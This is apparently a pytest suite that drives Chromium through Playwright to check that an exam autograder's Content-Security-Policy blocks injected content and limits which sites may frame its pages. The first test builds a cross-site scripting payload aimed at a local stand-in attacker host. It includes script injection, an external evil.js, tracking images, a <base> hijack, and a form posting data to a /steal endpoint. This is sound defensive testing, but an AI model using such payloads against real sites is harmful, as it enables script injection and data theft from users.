"""The service's Content-Security-Policy in a real browser (Debian's Chromium through Playwright;
never ``playwright install``), against the service in this process on 127.0.0.1.

* An injection that reaches the exam page unescaped (the handout renderer is replaced by one
  that lets raw HTML through, as an escaping mistake would) runs nothing and loads nothing from
  a listener this test starts: inline ``<script>``, an ``onerror`` handler, a ``javascript:``
  link, an external script, image, frame, stylesheet, ``@import`` and plugin, a ``<base>`` that
  would re-point the page's forms, and a form posting elsewhere. Each is refused by the policy,
  as the ``securitypolicyviolation`` events and the console say, and the listener hears
  nothing. The real markdown renderer's own output (an ``<img onerror>`` shown as text, an
  external ``![](...)`` image) is in the same handout: the image does not load.
* The real pages run under the policy with no violation reported: the exam countdown, its
  "hand in now" confirmation, HTMX polling on the submission page until graded, and the staff
  pages (the live exam view polling, a submission with highlighted files and the stub diff).
* ``frame-ancestors``: a page of a registered LMS platform's origin frames the service; a page
  of another loopback port is refused.
"""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
from markupsafe import Markup

from tests.service.test_exam_browser import INSTRUCTOR, REPO, exam_service, login
from tests.support.browser import chromium

pytestmark = [pytest.mark.needs_service("chromium"), pytest.mark.slow]

# Records every securitypolicyviolation of each document the page opens (read before leaving).
RECORD_VIOLATIONS = """
window.__csp = [];
document.addEventListener("securitypolicyviolation", function (e) {
  window.__csp.push({directive: e.effectiveDirective, blocked: e.blockedURI,
                     sample: e.sample});
});
"""


class Listener:
    """An HTTP server on a free loopback port that records every request. ``/evil.js`` is a
    script that would mark the page; ``/parent?src=URL`` is a page framing URL."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def _answer(self) -> None:
                outer.requests.append(f"{self.command} {self.path}")
                url = urlsplit(self.path)
                if url.path == "/evil.js":
                    body, kind = b"window.__pwned = 'external'; document.title = 'pwned';", \
                        "text/javascript"
                elif url.path == "/parent":
                    src = parse_qs(url.query)["src"][0]
                    body = (f'<!doctype html><title>LMS</title><h1>LMS course</h1>'
                            f'<iframe id="tool" src="{src}" width="900" height="600">'
                            f'</iframe>').encode()
                    kind = "text/html"
                else:
                    body, kind = b"/* nothing */", "text/plain"
                self.send_response(200)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = _answer

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.origin = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> Listener:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()


class Watch:
    """The CSP reports of one page: console messages (kept across navigations) and the
    current document's securitypolicyviolation events."""

    def __init__(self, page: Any) -> None:
        self.page = page
        self.console: list[str] = []
        self.requests: list[str] = []
        page.on("console", lambda m: self.console.append(m.text))
        page.on("request", lambda r: self.requests.append(r.url))

    def csp_console(self) -> list[str]:
        return [t for t in self.console if "Content Security Policy" in t]

    def violations(self) -> list[dict]:
        return self.page.evaluate("window.__csp || []")

    def clean(self, where: str) -> None:
        """No violation on the current document, none in the console so far."""
        assert self.violations() == [], (where, self.violations())
        assert self.csp_console() == [], (where, self.csp_console())


@pytest.fixture(scope="module")
def browser():  # type: ignore[no-untyped-def]
    with chromium() as b:
        yield b


@pytest.fixture(scope="module")
def exam(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict]:
    """The real mini-exam served in this process, with a worker (test_exam_browser's)."""
    with exam_service(tmp_path_factory.mktemp("csp-exam")) as svc:
        yield svc


def _new_page(browser: Any) -> tuple[Any, Any, Watch]:
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    context.add_init_script(RECORD_VIOLATIONS)
    page = context.new_page()
    return context, page, Watch(page)


def _start_exam(page: Any, url: str) -> None:
    page.goto(f"{url}/exams/miniexam1")
    if page.locator("#start").count():
        page.check("#honour-code")
        page.click("#start")
        page.wait_for_url(f"{url}/exams/miniexam1")
    page.locator("#countdown[data-ends-at]").wait_for()


def test_an_injection_on_the_exam_page_runs_nothing_and_loads_nothing(browser, exam,
                                                                       monkeypatch):
    from autograder.service import exams
    from autograder.service.handout import render_markdown

    url = exam["url"]
    with Listener() as lure:
        evil = lure.origin
        # Through the real renderer: raw HTML is shown as text; the image is a real <img>.
        cell = render_markdown("Hostile cell: <img src=x onerror=\"window.__pwned='md'\">\n\n"
                               f"![tracker]({evil}/md-beacon.png)\n")
        # An escaping mistake: raw HTML straight onto the page.
        raw = Markup(
            f'<base href="{evil}/">'
            '<script>window.__pwned = "inline"; document.title = "pwned";</script>'
            f'<script src="{evil}/evil.js"></script>'
            '<img id="x-onerror" src="data:," onerror="window.__pwned = \'onerror\'">'
            f'<img id="x-beacon" src="{evil}/beacon.png" alt="">'
            f'<iframe src="{evil}/frame"></iframe>'
            f'<link rel="stylesheet" href="{evil}/style.css">'
            f'<style>@import url("{evil}/import.css");</style>'
            f'<object data="{evil}/plugin"></object>'
            '<a id="x-js" href="javascript:window.__pwned = \'link\'">a link</a>'
            f'<form id="x-steal" method="post" action="{evil}/steal">'
            '<input name="loot" value="csrf"><button id="x-steal-go">go</button></form>'
            '<div id="x-htmx" hx-get="/healthz?injected=1" hx-trigger="load"></div>')
        monkeypatch.setattr(exams, "handout_html", lambda terms, variant: cell + raw)

        context, page, watch = _new_page(browser)
        login(page, url, "alice", "/")
        _start_exam(page, url)
        page.wait_for_timeout(1500)  # time for anything that would load or run
        assert page.evaluate("window.__pwned") is None
        assert "pwned" not in page.title()
        # The real renderer's output: the handler is text, the tracker image is an element.
        assert "<img src=x onerror=" in page.locator("#handout").inner_text()
        assert page.locator(f'#handout img[src="{evil}/md-beacon.png"]').count() == 1
        # <base> was refused: the page's own forms still post to the service.
        action = page.evaluate("document.getElementById('upload-form').action")
        assert action.startswith(f"{url}/exams/miniexam1/"), action
        # The page's own script still runs beside the injection: the countdown ticks.
        first = page.locator("#countdown").inner_text()
        page.wait_for_timeout(1200)
        assert page.locator("#countdown").inner_text() != first
        page.click("#x-js")
        # Submitted as a click would (a blocked submission leaves Playwright's click waiting).
        page.evaluate("document.getElementById('x-steal').requestSubmit()")
        page.wait_for_timeout(800)
        assert page.url.startswith(f"{url}/exams/miniexam1"), page.url
        assert page.evaluate("window.__pwned") is None
        stopped = {v["directive"] for v in watch.violations()}
        blocked = {v["blocked"] for v in watch.violations()}
        context.close()
    assert lure.requests == [], f"the injection reached the listener: {lure.requests}"
    # The policy is what stopped each of them (Chromium's names for the directives).
    assert {"script-src-elem", "script-src-attr", "img-src", "frame-src", "style-src-elem",
            "object-src", "base-uri", "form-action"} <= stopped, stopped
    assert {f"{evil}/evil.js", f"{evil}/beacon.png", f"{evil}/md-beacon.png", "inline",
            f"{evil}/steal"} <= blocked, blocked
    assert any("img-src 'self' data:" in t for t in watch.csp_console()), watch.csp_console()
    # htmx processes nothing inside the handout (hx-disable): the injected request never left.
    assert not [u for u in watch.requests if "injected" in u]


def test_the_real_pages_run_under_the_policy_with_no_violation(browser, exam):
    """The exam countdown, the submission page's HTMX polling until graded, the staff pages,
    and the exam's hand-in confirmation, with no CSP report in the console or as an event."""
    from autograder.exams import choose_variant

    url = exam["url"]
    context, page, watch = _new_page(browser)
    login(page, url, "alice", "/")
    _start_exam(page, url)
    first = page.locator("#countdown").inner_text()
    page.wait_for_timeout(1200)
    assert page.locator("#countdown").inner_text() != first, "the countdown does not run"
    assert page.locator("#handout math").first.is_visible()
    watch.clean("exam page")

    variant = choose_variant("browser-test-secret", "alice", "miniexam1",
                             ["leaky_relu", "dropout"])
    page.set_input_files("#files-input", str(REPO / "solutions/miniexam1/variants" / variant
                                             / "layer.py"))
    page.click("#submit")
    page.wait_for_url("**/exams/miniexam1?submitted=*")
    page.locator("#attempts a").first.click()
    page.wait_for_url("**/submissions/*")
    submission = page.url.rsplit("/", 1)[1]
    first_state = page.get_attribute("#status", "data-state")
    polls_before = sum("/status" in u for u in watch.requests)
    page.locator("#status[data-state=graded]").wait_for(timeout=180_000)
    if first_state != "graded":  # the page changed by itself: HTMX polled under the policy
        assert sum("/status" in u for u in watch.requests) > polls_before, "HTMX did not poll"
    watch.clean("submission page")

    staff, spage, swatch = _new_page(browser)
    login(spage, url, INSTRUCTOR, "/staff")
    swatch.clean("staff home")
    spage.goto(f"{url}/staff/exams/miniexam1")
    spage.locator('tr[data-student="alice"]').wait_for()
    lives = sum("/live" in u for u in swatch.requests)
    spage.wait_for_timeout(7000)  # the live view polls every 5 s
    assert sum("/live" in u for u in swatch.requests) > lives, "the live view did not poll"
    swatch.clean("live exam view")
    spage.goto(f"{url}/staff/submissions/{submission}")
    assert spage.locator(".code .highlight").first.is_visible()
    swatch.clean("staff submission page")
    spage.goto(f"{url}/staff/people")
    swatch.clean("people page")
    # The API docs: Swagger UI from the service's own files, drawing the operations.
    spage.goto(f"{url}/api/docs")
    spage.locator(".opblock").first.wait_for(timeout=30_000)
    assert spage.locator(".opblock").count() >= 5, "Swagger UI drew no operations"
    assert not [u for u in swatch.requests if not u.startswith(url)], "a request left the service"
    swatch.clean("API docs page")
    staff.close()

    # Hand in now: the confirmation comes from static/pages.js; "cancel" keeps the exam going.
    page.goto(f"{url}/exams/miniexam1")
    page.once("dialog", lambda d: d.dismiss())
    page.click("#finish")
    page.wait_for_timeout(500)
    assert page.locator("#countdown[data-ends-at]").count() == 1, "cancel handed in"
    page.once("dialog", lambda d: d.accept())
    page.click("#finish")
    page.wait_for_load_state()
    page.locator("#countdown:not([data-ends-at])").wait_for()
    assert page.locator("#countdown").inner_text() == "Finished"
    watch.clean("exam page after hand-in")
    context.close()


@contextmanager
def _serve(app: Any) -> Iterator[str]:
    import uvicorn

    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=0, log_level="warning"))
    thread = threading.Thread(target=server.run, daemon=True, name="csp-uvicorn")
    thread.start()
    deadline = time.monotonic() + 30
    while not server.started:
        assert time.monotonic() < deadline, "uvicorn did not start"
        time.sleep(0.05)
    port = server.servers[0].sockets[0].getsockname()[1]
    try:
        yield f"http://127.0.0.1:{port}"
    finally:
        server.should_exit = True
        thread.join(timeout=20)


def test_only_a_registered_platform_may_frame_the_pages(browser, tmp_path):
    from autograder.service.app import create_app
    from tests.service.conftest import build_course, open_service_db, settings_for

    with Listener() as lms, Listener() as stranger:
        course = build_course(tmp_path / "course")
        with open(course / "course.toml", "a") as f:
            f.write(f'\n[lti]\nprivate_key = "secrets/lti.pem"\n[[lti.platforms]]\n'
                    f'issuer = "{lms.origin}"\nclient_id = "c1"\ndeployment_ids = ["d1"]\n'
                    f'auth_login_url = "{lms.origin}/auth"\n'
                    f'auth_token_url = "{lms.origin}/token"\nkey_set_url = "{lms.origin}/jwks"\n')
        db_url = f"sqlite:///{tmp_path / 'frame.sqlite'}"
        db = open_service_db(course, db_url)
        try:
            app = create_app(settings_for(course, db_url), db=db)
            with _serve(app) as url:
                seen = {}
                for name, parent in (("lms", lms), ("stranger", stranger)):
                    context, page, watch = _new_page(browser)
                    page.goto(f"{parent.origin}/parent?src={url}/login")
                    page.wait_for_timeout(1500)
                    frame = page.frame_locator("#tool")
                    seen[name] = (frame.locator("#login").count(), watch.csp_console())
                    context.close()
        finally:
            db.close()
    framed, reports = seen["lms"]
    assert framed == 1 and reports == [], seen["lms"]
    framed, reports = seen["stranger"]
    assert framed == 0, "a page of an unregistered origin framed the service"
    assert any("frame-ancestors" in t and lms.origin in t for t in reports), reports
